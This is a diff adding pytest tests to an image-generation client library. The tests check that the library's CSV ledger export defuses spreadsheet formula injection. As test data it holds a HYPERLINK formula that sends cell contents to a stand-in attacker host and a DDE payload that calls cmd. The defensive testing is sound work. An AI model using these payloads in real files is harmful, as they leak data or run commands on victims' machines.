@@ -4,6 +4,7 @@ when the attacker names the job, the URL, the bytes and their type."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import os
 import stat
 
@@ -166,3 +167,29 @@ async def test_result_urls_of_other_schemes_never_reach_the_ledger_or_the_widget
     record = job_record(job)
     assert url not in str(row) and url not in str(record)
     assert row["result_url"] is None and record["result"] is None and record["error"] is not None
+
+
+async def test_a_ledger_export_never_hands_a_spreadsheet_a_formula(hostile, client, tmp_path):
+    """The service names the job and words its failure; both reach the ledger and its CSV export.
+    A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): the export
+    keeps the text but never lets it start a formula."""
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+    hostile.job_ids = ["@SUM(1+1)*cmd|' /C calc'!A0"]
+    hostile.job = lambda job_id: {"id": job_id, "status": "failed", "error": formula}
+    ss = client()
+    job = await ss.generate("nano-banana", "a fox")
+    await outcome(job.wait())
+    path = ss.ledger.to_csv(tmp_path / "ledger.csv")
+    with path.open(newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert any("HYPERLINK" in c for c in cells) and any("SUM(1+1)" in c for c in cells)  # kept, as text
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_spreadsheet_text_defuses_every_formula_start_and_nothing_else():
+    from stablestudio_widgets.boundary import spreadsheet_text
+
+    for formula in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_text(formula) == "'" + formula
+    for plain in ("a fox", "cm123", "https://x", "", 0.07, None, -5):
+        assert spreadsheet_text(plain) == plain
